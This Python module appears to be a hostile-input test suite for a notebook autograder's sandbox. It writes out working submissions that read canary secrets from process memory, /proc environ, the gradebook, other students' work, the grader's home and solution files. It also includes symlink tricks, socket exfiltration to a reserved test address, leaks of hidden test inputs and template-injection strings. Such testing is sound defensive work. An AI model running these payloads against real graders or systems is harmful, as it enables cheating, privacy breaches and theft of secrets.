"""Reading what is not for students: hidden tests, the gradebook, others' work, the grader."""

from pathlib import Path

from nbformat import NotebookNode

from tests.attacks.hostile.attack import Kind, answer, put, run_before, run_first, run_last

reads = Kind("reading secrets")

# Prints what looks like a planted secret, and nothing else.
LOOT = """
import contextlib, os, pathlib, re, sys

PATTERN = re.compile(b"CAN" + b"ARY-[a-z]+-[0-9a-f]+")

def loot(data):
    if isinstance(data, str):
        data = data.encode(errors="replace")
    for found in sorted(set(PATTERN.findall(data))):
        print("LOOT", found.decode())

def loot_file(path):
    with contextlib.suppress(OSError):
        if not os.path.isfile(path):
            return
        with open(path, "rb") as file:
            loot(file.read(50_000_000))

def loot_folder(path):
    for folder, _, names in os.walk(path):
        for name in names:
            loot_file(os.path.join(folder, name))
"""


@reads("The history of cells, printed by a cell at the end.")
def history(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT
        + """
ip = get_ipython()
loot("\\n".join(In))
loot("\\n".join(map(str, ip.user_ns["_ih"])))
loot(repr([line for _, _, line in ip.history_manager.get_range()]))
""",
    )


@reads("The cell that is running, while it runs: an answer reads the last source of the history.")
def running_cell(notebook: NotebookNode, folder: Path) -> None:
    run_first(notebook, LOOT)
    answer(
        notebook,
        "corr2d",
        "def corr2d(X, K):\n    loot(In[-1])\n    loot(repr(get_ipython().user_ns))",
    )


@reads("The callers' code and source lines, through the frames of an answer.")
def callers_frames(notebook: NotebookNode, folder: Path) -> None:
    run_first(notebook, LOOT)
    answer(
        notebook,
        "output-size",
        """
        def output_size(*a, **k):
            import linecache
            frame = sys._getframe()
            while frame:
                loot("".join(linecache.getlines(frame.f_code.co_filename)))
                loot(repr(frame.f_locals)[:10_000_000] + repr(frame.f_code.co_consts))
                frame = frame.f_back
            loot(repr(linecache.cache))
        """,
    )


@reads("Every object that the garbage collector knows.")
def objects_of_gc(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT
        + """
import gc
for found in [*gc.get_objects(), *gc.get_referrers(loot)]:
    for inner in gc.get_referents(found):
        if isinstance(inner, (str, bytes)) and len(inner) < 10_000_000:
            loot(inner)
""",
    )


@reads("The whole memory of the own process.", dangerous=True, variation=True)
def own_memory(notebook: NotebookNode, folder: Path) -> None:
    run_last(notebook, LOOT + MEMORY + "\nloot_memory('self')")


@reads("The memory of the parent and of every other process.", dangerous=True)
def others_memory(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT + MEMORY + "\nfor pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    if int(pid) != os.getpid():\n        loot_memory(pid)\n",
    )


MEMORY = """
def loot_memory(pid):
    with contextlib.suppress(OSError):
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                place, rights = line.split()[:2]
                start, end = (int(n, 16) for n in place.split("-"))
                if "rw" in rights and end - start < 2**28:
                    with contextlib.suppress(OSError, ValueError, OverflowError):
                        memory.seek(start)
                        loot(memory.read(end - start))
"""


@reads("Command line, environment, open files and folder of every process in /proc.")
def proc(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT
        + """
for process in pathlib.Path("/proc").glob("[0-9]*"):
    for name in ("environ", "cmdline"):
        loot_file(process / name)
    with contextlib.suppress(OSError):
        for open_file in (process / "fd").iterdir():
            loot(os.readlink(open_file))
            if os.path.isfile(open_file):
                loot_file(open_file)
    if process.name != str(os.getpid()):
        with contextlib.suppress(OSError):
            for path in (process / "cwd").rglob("*"):
                loot_file(path)
""",
    )


@reads("The notebook that is being graded, and everything beside it.")
def notebook_on_disk(notebook: NotebookNode, folder: Path) -> None:
    run_last(notebook, LOOT + "\nloot_folder('.')\nloot_folder('..')\n")


@reads("The source of the lesson with its solutions and hidden tests.", variation=True)
def source_folder(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT + "\nloot_folder('@COURSE@/source')\nfor up in ('../../..', '../../../..'):\n"
        "    loot_folder(up + '/source')\n",
    )


@reads("The gradebook: hidden tests, names and marks.")
def gradebook(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT
        + """
for path in ("@COURSE@/gradebook.db", "../../../gradebook.db", "../gradebook.db"):
    loot_file(path)
""",
    )


@reads("What another student handed in.")
def others_submission(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT + "\nfor top in ('@COURSE@', '../../..'):\n"
        "    for kind in ('submitted', 'autograded', 'feedback'):\n"
        "        loot_folder(f'{top}/{kind}/@VICTIM@')\n",
    )


@reads("The grader's home and the temporary folders.")
def home_and_tmp(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT
        + """
for place in ("@HOME@", os.path.expanduser("~"), "@COURSE@/.."):
    loot_folder(place)
""",
    )


@reads("The environment, its own and that of programs that it starts.")
def environment(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT
        + """
import subprocess
loot(repr(dict(os.environ)))
with contextlib.suppress(OSError, subprocess.SubprocessError):
    loot(subprocess.run(["env"], capture_output=True).stdout)
    loot(subprocess.run(["sh", "-c", "cat /proc/$PPID/environ"], capture_output=True).stdout)
""",
    )


@reads("Through every descriptor that the process was born with.")
def inherited_descriptors(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT
        + """
import stat
for number in range(3, 256):
    with contextlib.suppress(OSError, ValueError):
        if stat.S_ISREG(os.fstat(number).st_mode):
            loot(os.pread(number, 10_000_000, 0))
        if stat.S_ISDIR(os.fstat(number).st_mode):
            for name in os.listdir(number):
                loot(name)
            above = os.open("@HOME@/secret.txt".lstrip("/"), os.O_RDONLY, dir_fd=number)
            loot(os.read(above, 10_000))
""",
    )


@reads("Links in the submission that lead to the grader's secret and to the gradebook.")
def links_to_secrets(notebook: NotebookNode, folder: Path) -> None:
    home, course = folder.parents[3] / "home", folder.parents[2]
    (folder / "secret.txt").symlink_to(home / "secret.txt")
    (folder / "book.db").symlink_to(course / "gradebook.db")
    (folder / "all").symlink_to(course / "source", target_is_directory=True)
    run_last(
        notebook,
        LOOT
        + "\nfor name in ('secret.txt', 'book.db'):\n    loot_file(name)\nloot_folder('all')\n",
    )


@reads("The notebook itself is a link to the lesson's source.")
def notebook_is_a_link(notebook: NotebookNode, folder: Path) -> None:
    # What is handed in beside it is written to the name that the grader looks for.
    target = folder.parents[2] / "source" / "2-convolution" / "convolution.ipynb"
    (folder / "convolution.ipynb").symlink_to(target)


@reads("What was found is sent to a service on loopback, on the network and on a local socket.")
def sent_to_services(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        """
        import contextlib, socket
        word = b"@MARK@ was here"
        for family, address in [
            (socket.AF_INET, ("127.0.0.1", int("@PORT@"))),
            (socket.AF_INET6, ("::1", int("@PORT@"))),
            (socket.AF_UNIX, "@SOCKET@"),
            (socket.AF_UNIX, "\\0@SOCKET@"),
            (socket.AF_INET, ("192.0.2.1", 80)),
        ]:
            with contextlib.suppress(OSError), socket.socket(family) as outside:
                outside.settimeout(1)
                outside.connect(address)
                outside.sendall(word)
        with contextlib.suppress(OSError), socket.socket(type=socket.SOCK_DGRAM) as outside:
            outside.sendto(word, ("127.0.0.1", int("@PORT@")))
        """,
    )


@reads(
    "An answer writes down in the test's own output what it is asked.",
    honest=4,
    loot=("SEEN 224",),
)
def questions_printed(notebook: NotebookNode, folder: Path) -> None:
    # Hidden questions come only to those who were right so far.
    answer(notebook, "output-size", _right_and("print('SEEN', size)"))


@reads("What was asked is in the exception that an answer raises.", honest=2, loot=("ASKED 224",))
def questions_raised(notebook: NotebookNode, folder: Path) -> None:
    source = _right_and("if size > 32: raise ValueError(f'ASKED {size}')")
    answer(notebook, "output-size", source)


@reads(
    "What was asked is remembered, and a cell at the end prints it.",
    honest=4,
    loot=("KEPT 224",),
)
def questions_remembered(notebook: NotebookNode, folder: Path) -> None:
    answer(notebook, "output-size", "asked = []\n" + _right_and("asked.append(size)"))
    run_last(notebook, "for question in asked:\n    print('KEPT', question)")


@reads(
    "As before, and names that tests need are defined again behind them, so that order matters.",
    honest=4,
    loot=("KEPT 224",),
)
def questions_remembered_in_order(notebook: NotebookNode, folder: Path) -> None:
    questions_remembered(notebook, folder)
    run_last(notebook, "corr2d = output_size = asked")


@reads("What was asked is shown as a page and as a text.", honest=4, loot=("SHOWN 224",))
def questions_displayed(notebook: NotebookNode, folder: Path) -> None:
    show = "display(HTML(f'SHOWN {size}')); display(f'SHOWN {size}')"
    source = "from IPython.display import HTML, display\n" + _right_and(show)
    answer(notebook, "output-size", source)


@reads(
    "What was asked is told through the names of an answer's exception and of its function.",
    honest=2,
    loot=("Asked224",),
)
def questions_in_names(notebook: NotebookNode, folder: Path) -> None:
    tell = """if size > 32:
        output_size.__name__ = f"Asked{size}"
        raise type(f"Asked{size}", (Exception,), {})"""
    answer(notebook, "output-size", _right_and(tell))


def _right_and(statement: str) -> str:
    return f"""
def output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    {statement}
    return (size + 2 * padding - dilation * (kernel_size - 1) - 1) // stride + 1
"""


@reads(
    "The mistakes that checks know, and the source of the package, are read for expected values.",
    variation=True,
)
def package_source(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        LOOT
        + """
import autograder
package = pathlib.Path(autograder.__file__).parent
loot_folder(package)
loot_folder(package.parent / "source")
loot_folder(package.parent / ".git")
""",
    )


@reads("A magic command and a shell command look for the secrets.", variation=True)
def shell_commands(notebook: NotebookNode, folder: Path) -> None:
    run_before(
        notebook,
        "corr2d",
        """
        !grep -rhoa "CAN[A]RY-[a-z]*-[0-9a-f]*" @COURSE@ @HOME@ . .. 2>/dev/null | sort -u
        %cd -q @COURSE@
        !cat gradebook.db 2>/dev/null | grep -oa "CAN[A]RY-[a-z]*-[0-9a-f]*" | sort -u
        """,
    )


@reads(
    "The answer's module-level names shadow the packages that a template may render.",
    variation=True,
)
def template_injection(notebook: NotebookNode, folder: Path) -> None:
    run_last(
        notebook,
        "print('{{ config }} {% raw %} {{ resources.__class__.__mro__ }} <%= 7 * 7 %> ${7*7}')",
    )
    notebook.metadata["title"] = "{{ resources }} {{ self.__init__.__globals__ }}"
    put(folder, "index.html.j2", "{{ self.__init__.__globals__ }}")
